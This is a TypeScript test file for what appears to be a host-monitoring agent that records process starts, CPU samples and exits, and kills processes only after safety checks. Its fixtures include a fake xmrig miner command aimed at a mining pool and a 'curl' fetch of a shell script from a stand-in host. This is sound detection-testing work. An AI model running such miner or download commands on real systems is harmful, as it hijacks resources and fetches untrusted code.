import { test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { FakeClock } from "../../core/index.ts";
import { processRecord, type ProcessRecord } from "../../protocol/index.ts";
import { FakeProcTree, PF_KTHREAD, startTimeMs, type FakeProc } from "./proc-fs.ts";
import { ProcessCollector, type ProcessCollectorOptions } from "./processes.ts";

const BTIME = 1_767_225_600; // 2026-01-01T00:00:00Z
const sha256 = (s: string) => createHash("sha256").update(s).digest("hex");
const md5 = (s: string) => createHash("md5").update(s).digest("hex");
/** 10.0.0.2:22 ← 203.0.113.7:51234, ESTABLISHED, inode 9001 (a /proc/net/tcp line of the kernel's shape). */
const SSH_LINE = "   0: 0200000A:0016 077100CB:C822 01 00000000:00000000 02:0009F1A2 00000000     0        0 9001 4 0000000035a7d83a 20 4 31 10 -1";

function setup(t: { after: (fn: () => void) => void }, opts: Partial<ProcessCollectorOptions> = {}) {
  const d = mkdtempSync(join(tmpdir(), "hw-proc-"));
  t.after(() => rmSync(d, { recursive: true, force: true }));
  const root = join(d, "proc");
  const tree = new FakeProcTree(root, { btime: BTIME });
  writeFileSync(join(d, "passwd"), "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n");
  const bins: Record<string, string> = {};
  /** An executable: a real file, so its hash can be checked. */
  const bin = (name: string) => {
    if (!bins[name]) {
      bins[name] = join(d, name);
      writeFileSync(bins[name], `#!binary ${name}\n`);
    }
    return bins[name];
  };
  const base: FakeProc[] = [
    { pid: 1, comm: "systemd", ppid: 0, exe: bin("systemd"), cmdline: ["/sbin/init"], startTicks: 10 },
    { pid: 2, comm: "kthreadd", ppid: 0, exe: null, cmdline: [], flags: PF_KTHREAD, startTicks: 10 },
    { pid: 500, comm: "sshd", ppid: 1, exe: bin("sshd"), cmdline: ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], startTicks: 500 },
    { pid: 600, comm: "sshd", ppid: 500, exe: bin("sshd"), cmdline: ["sshd: alice [priv]"], startTicks: 300_000, socketInodes: [9001] },
    { pid: 601, comm: "sshd", ppid: 600, uid: 1000, exe: bin("sshd"), cmdline: "sshd: alice@pts/0\0\0\0\0", startTicks: 300_010, socketInodes: [9001] },
    { pid: 700, comm: "bash", ppid: 601, uid: 1000, exe: bin("bash"), cmdline: ["-bash"], startTicks: 300_020 },
  ];
  for (const p of base) tree.add(p);
  tree.setNet("tcp", [SSH_LINE]);
  const clock = new FakeClock((BTIME + 3600) * 1000);
  const records: ProcessRecord[] = [];
  const signals: [number, string][] = [];
  const c = new ProcessCollector({
    root, passwdPath: join(d, "passwd"), clock, execGraceMs: 0, selfPid: 999_999, parentPid: 999_998,
    onRecords: (rs) => void records.push(...rs),
    signal: (pid, sig) => {
      signals.push([pid, sig]);
      tree.remove(pid);
    },
    ...opts,
  });
  /** Records delivered since the last call. */
  let seen = 0;
  const take = () => records.slice(seen, (seen = records.length));
  return { d, root, tree, clock, records, take, c, bin, signals };
}

/** Every record must validate against the protocol schema, and ids must be unique. */
function checkAll(records: ProcessRecord[]): void {
  for (const r of records) {
    const p = processRecord.safeParse(r);
    assert.ok(p.success, `${r.id}: ${p.success ? "" : p.error.message}`);
  }
  assert.equal(new Set(records.map((r) => r.id)).size, records.length, "ids are unique");
}

test("AGT-3 running processes are the baseline; a new one gets a start record with exe, hashes, args, user, parent, ancestors and ssh session", async (t) => {
  const { tree, c, take, records, bin, clock } = setup(t);
  await c.baseline();
  await c.scan();
  assert.deepEqual(take(), [], "nothing already running is reported as started");
  const miner = bin("xmrig");
  tree.add({ pid: 800, comm: "(a b) c)", ppid: 700, uid: 1000, exe: miner, cwd: "/tmp/.x", cmdline: ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "--donate-level 1"], startTicks: 350_000, vmRssKb: 5000 });
  clock.advance(250);
  await c.scan();
  const [r, ...more] = take();
  assert.equal(more.length, 0);
  assert.ok(r);
  assert.deepEqual(r.event, { action: "start" });
  assert.equal(r.ts, BTIME * 1000 + 3_500_000, "ts is the process's start time");
  assert.equal(r.id, "proc-0f1e2d3c4b5a-800-350000-start");
  assert.deepEqual(r.process, {
    pid: 800, ppid: 700, name: "(a b) c)", start: BTIME * 1000 + 3_500_000,
    executable: miner,
    command_line: "./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1",
    args: ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "--donate-level 1"],
    cwd: "/tmp/.x",
    user: { name: "alice", id: 1000 },
    memory: { rss: 5000 * 1024 },
    hash: { md5: md5("#!binary xmrig\n"), sha256: sha256("#!binary xmrig\n") },
    parent: { pid: 700, name: "bash", executable: bin("bash"), command_line: "-bash" },
    ancestors: [
      { pid: 700, name: "bash", executable: bin("bash") },
      { pid: 601, name: "sshd", executable: bin("sshd") },
      { pid: 600, name: "sshd", executable: bin("sshd") },
      { pid: 500, name: "sshd", executable: bin("sshd") },
      { pid: 1, name: "systemd", executable: bin("systemd") },
    ],
  });
  assert.deepEqual(r.session, { sshdPid: 601, user: "alice", sourceIp: "203.0.113.7" });
  checkAll(records);
  assert.equal(c.stats.starts, 1);
});

test("AGT-3 a process gone before it can be read is counted as missed, never an error", async (t) => {
  const { root, c, take } = setup(t);
  await c.baseline();
  mkdirSync(join(root, "900")); // listed, but its files are gone
  await c.scan();
  assert.deepEqual(take(), []);
  assert.equal(c.stats.missed, 1);
  assert.equal(c.stats.errors, 0);
});

test("AGT-3 CPU % from utime+stime deltas over the elapsed time (fake clock): samples at or above the threshold, busiest first", async (t) => {
  const { tree, c, take, records, clock, bin } = setup(t);
  const p = (pid: number, utime: number, stime: number): FakeProc => ({ pid, comm: `w${pid}`, ppid: 1, exe: bin("worker"), utime, stime, startTicks: 200_000 + pid });
  for (const pid of [1000, 1001, 1002]) tree.add(p(pid, 100, 0));
  await c.baseline();
  clock.advance(5000);
  tree.update(p(1000, 100 + 400, 50)); // 4.5 s of CPU in 5 s: 90 %
  tree.update(p(1001, 100 + 100, 0)); // 20 %
  tree.update(p(1002, 100 + 500, 500)); // two cores: 200 %
  await c.sample();
  const got = take();
  assert.deepEqual(got.map((r) => [r.event.action, r.process.pid, r.process.cpu?.pct]), [["sample", 1002, 200], ["sample", 1000, 90]]);
  assert.equal(got[0]!.ts, clock.now());
  assert.equal(got[0]!.process.executable, bin("worker"));
  assert.ok(got[0]!.process.hash?.sha256);

  clock.advance(5000);
  await c.sample();
  assert.deepEqual(take(), [], "idle since: no samples");

  // exits only for processes that were reported (1000 was sampled; 1001 never was)
  tree.remove(1000);
  tree.remove(1001);
  clock.advance(250);
  await c.scan();
  const exits = take();
  assert.deepEqual(exits.map((r) => [r.event.action, r.process.pid]), [["exit", 1000]]);
  assert.equal(exits[0]!.ts, clock.now());
  checkAll(records);
});

test("AGT-3 cpuThresholdPct: 95 % is not sampled at threshold 96 and is at 95", async (t) => {
  for (const [threshold, want] of [[96, 0], [95, 1]] as const) {
    const { tree, c, take, clock } = setup(t, { cpuThresholdPct: threshold });
    tree.add({ pid: 1000, comm: "w", utime: 0, startTicks: 1000 });
    await c.baseline();
    clock.advance(2000);
    tree.update({ pid: 1000, comm: "w", utime: 190, startTicks: 1000 });
    await c.sample();
    assert.equal(take().length, want);
  }
});

test("AGT-3 a new process gets one sample at the first interval it lives through", async (t) => {
  const { tree, c, take, clock, records } = setup(t);
  await c.baseline();
  tree.add({ pid: 1100, comm: "nginx", ppid: 1, utime: 5, startTicks: 359_990 });
  await c.scan();
  clock.advance(5000);
  tree.update({ pid: 1100, comm: "nginx", ppid: 1, utime: 15, startTicks: 359_990 });
  await c.sample();
  clock.advance(5000);
  await c.sample();
  assert.deepEqual(take().map((r) => [r.event.action, r.process.cpu?.pct]), [["start", undefined], ["sample", 2]]);
  checkAll(records);
});

test("AGT-3 a fork still running its parent's executable is reported after the exec grace, with what it exec'd", async (t) => {
  const { tree, c, take, bin, records } = setup(t);
  await c.baseline();
  // bash forked: the child still is bash
  tree.add({ pid: 810, comm: "bash", ppid: 700, uid: 1000, exe: bin("bash"), cmdline: ["-bash"], startTicks: 355_000 });
  tree.add({ pid: 811, comm: "bash", ppid: 700, uid: 1000, exe: bin("bash"), cmdline: ["-bash"], startTicks: 355_001 });
  tree.add({ pid: 812, comm: "bash", ppid: 700, uid: 1000, exe: bin("bash"), cmdline: ["-bash"], startTicks: 355_002 });
  await c.scan();
  assert.deepEqual(take(), [], "not yet reported");
  // 810 exec'd curl; 811 stays a subshell; 812 ended
  tree.update({ pid: 810, comm: "curl", ppid: 700, uid: 1000, exe: bin("curl"), cmdline: ["curl", "-s", "http://x.example/a.sh"], startTicks: 355_000 });
  tree.remove(812);
  await c.scan();
  const got = take();
  assert.deepEqual(got.map((r) => [r.process.pid, r.process.name, r.process.executable, r.process.command_line]), [
    [810, "curl", bin("curl"), "curl -s http://x.example/a.sh"],
    [811, "bash", bin("bash"), "-bash"],
  ]);
  assert.equal(got[0]!.session?.user, "alice");
  assert.equal(c.stats.deferred, 2);
  assert.equal(c.stats.missed, 1);
  checkAll(records);
});

test("AGT-3 an exec seen at an interval (new comm and executable) is a new start record with its own id", async (t) => {
  const { tree, c, take, bin, clock, records } = setup(t);
  await c.baseline();
  tree.add({ pid: 820, comm: "sh", ppid: 1, exe: bin("sh"), cmdline: ["sh", "-c", "exec python3 x.py"], startTicks: 358_000 });
  await c.scan();
  clock.advance(5000);
  tree.update({ pid: 820, comm: "python3", ppid: 1, exe: bin("python3"), cmdline: ["python3", "x.py"], startTicks: 358_000 });
  await c.sample();
  const got = take();
  assert.deepEqual(got.map((r) => [r.id, r.process.executable]), [
    ["proc-0f1e2d3c4b5a-820-358000-start", bin("sh")],
    ["proc-0f1e2d3c4b5a-820-358000-start1", bin("python3")],
    [got[2]!.id, bin("python3")],
  ]);
  assert.equal(got[2]!.event.action, "sample", "and its first-interval sample");
  checkAll(records);
});

test("AGT-3 a pid reused between scans: exit of the old process, start of the new one", async (t) => {
  const { tree, c, take, bin, clock, records } = setup(t);
  await c.baseline();
  tree.add({ pid: 830, comm: "old", ppid: 1, exe: bin("old"), startTicks: 358_000 });
  await c.scan();
  tree.update({ pid: 830, comm: "new", ppid: 1, exe: bin("new"), startTicks: 359_000 });
  clock.advance(5000);
  await c.sample();
  const got = take();
  assert.deepEqual(got.map((r) => [r.event.action, r.process.name, r.process.start]), [
    ["start", "old", startTimeMs(BTIME, 358_000)],
    ["exit", "old", startTimeMs(BTIME, 358_000)],
    ["start", "new", startTimeMs(BTIME, 359_000)],
  ]);
  checkAll(records);
});

test("AGT-3 kernel threads are never reported", async (t) => {
  const { tree, c, take, clock } = setup(t);
  await c.baseline();
  tree.add({ pid: 840, comm: "kworker/0:1-events", ppid: 2, exe: null, cmdline: [], flags: PF_KTHREAD, utime: 900, startTicks: 359_000 });
  await c.scan();
  clock.advance(5000);
  tree.update({ pid: 840, comm: "kworker/0:1-events", ppid: 2, exe: null, cmdline: [], flags: PF_KTHREAD, utime: 1400, startTicks: 359_000 });
  await c.sample();
  assert.deepEqual(take(), []);
});

test("AGT-11 bounded: at most maxStartsPerScan starts per scan (the rest counted as dropped), at most maxTracked processes", async (t) => {
  const { tree, c, take, records, bin } = setup(t, { maxStartsPerScan: 5, maxTracked: 6 + 10 });
  await c.baseline();
  for (let i = 0; i < 12; i++) tree.add({ pid: 2000 + i, comm: "spam", ppid: 1, exe: bin("spam"), startTicks: 359_000 + i });
  await c.scan();
  assert.equal(take().length, 5);
  assert.equal(c.stats.dropped, 5);
  assert.equal(c.stats.untracked, 2, "6 baseline + 10 = maxTracked");
  assert.equal(c.stats.tracked, 16);
  for (let i = 0; i < 12; i++) tree.remove(2000 + i);
  await c.scan();
  assert.equal(take().filter((r) => r.event.action === "exit").length, 5, "exits only for the reported ones");
  checkAll(records);
});

test("AGT-11 samples per interval are capped, busiest kept", async (t) => {
  const { tree, c, take, clock } = setup(t, { maxSamplesPerInterval: 2 });
  for (let i = 0; i < 5; i++) tree.add({ pid: 3000 + i, comm: "busy", ppid: 1, startTicks: 1000 + i });
  await c.baseline();
  clock.advance(1000);
  for (let i = 0; i < 5; i++) tree.update({ pid: 3000 + i, comm: "busy", ppid: 1, utime: 60 + i * 10, startTicks: 1000 + i });
  await c.sample();
  assert.deepEqual(take().map((r) => r.process.cpu?.pct), [100, 90]);
  assert.equal(c.stats.dropped, 3);
});

test("AGT-3 inventoryOnStart: one sample per running process (not kernel threads)", async (t) => {
  const { c, take, records } = setup(t, { inventoryOnStart: true });
  await c.baseline();
  assert.deepEqual(take().map((r) => [r.event.action, r.process.pid]), [[ "sample", 1], ["sample", 500], ["sample", 600], ["sample", 601], ["sample", 700]]);
  checkAll(records);
});

test("PRC-4 kill() refuses pid 1, the agent, its parent, kernel threads, gone pids and a reused pid; checks the hash; then SIGKILLs", async (t) => {
  const { tree, c, bin, signals } = setup(t);
  await c.baseline();
  tree.add({ pid: 850, comm: "xmrig", ppid: 1, exe: bin("xmrig"), startTicks: 359_000 });
  const start = startTimeMs(BTIME, 359_000);
  const good = sha256("#!binary xmrig\n");

  assert.deepEqual(await c.kill({ pid: 1, start: startTimeMs(BTIME, 10) }), { ok: false, message: "refused: pid 1 (init) is never killed" });
  assert.deepEqual(await c.kill({ pid: 999_999, start }), { ok: false, message: "refused: pid 999999 is the agent itself" });
  assert.deepEqual(await c.kill({ pid: 999_998, start }), { ok: false, message: "refused: pid 999998 is the agent's parent" });
  assert.match((await c.kill({ pid: 2, start: startTimeMs(BTIME, 10) })).message, /^refused: pid 2 \(kthreadd\) is a kernel thread/);
  assert.deepEqual(await c.kill({ pid: 4242, start }), { ok: false, message: "pid 4242 already gone" });
  const reused = await c.kill({ pid: 850, start: start - 60_000 });
  assert.equal(reused.ok, false);
  assert.equal(reused.message, `pid 850 is now another process (xmrig, started ${new Date(start).toISOString()}; expected one started ${new Date(start - 60_000).toISOString()})`);
  const wrongHash = await c.kill({ pid: 850, start, sha256: sha256("something else") });
  assert.equal(wrongHash.ok, false);
  assert.match(wrongHash.message, /^refused: pid 850 \(xmrig\) runs an executable with SHA-256 [0-9a-f]{64}, not /);
  assert.deepEqual(signals, [], "nothing was signalled so far");

  const done = await c.kill({ pid: 850, start: start + 9, sha256: good });
  assert.deepEqual(done, { ok: true, message: `killed pid 850 (xmrig, ${bin("xmrig")}) with SIGKILL` });
  assert.deepEqual(signals, [[850, "SIGKILL"]]);
});

test("PRC-4 kill() reports a process that survives SIGKILL and one that vanished as the signal was sent", async (t) => {
  const { tree, c, bin } = setup(t, {
    killConfirmMs: 50,
    signal: (pid) => {
      if (pid === 861) throw Object.assign(new Error("kill ESRCH"), { code: "ESRCH" });
    },
  });
  await c.baseline();
  tree.add({ pid: 860, comm: "stuck", ppid: 1, exe: bin("stuck"), startTicks: 359_000 });
  tree.add({ pid: 861, comm: "quick", ppid: 1, exe: bin("quick"), startTicks: 359_001 });
  const r = await c.kill({ pid: 860, start: startTimeMs(BTIME, 359_000) });
  assert.equal(r.ok, false);
  assert.match(r.message, /^SIGKILL sent to pid 860 \(stuck, .*\) but it still runs \(state S\) after 50 ms$/);
  assert.deepEqual(await c.kill({ pid: 861, start: startTimeMs(BTIME, 359_001) }), { ok: false, message: "pid 861 already gone" });
});
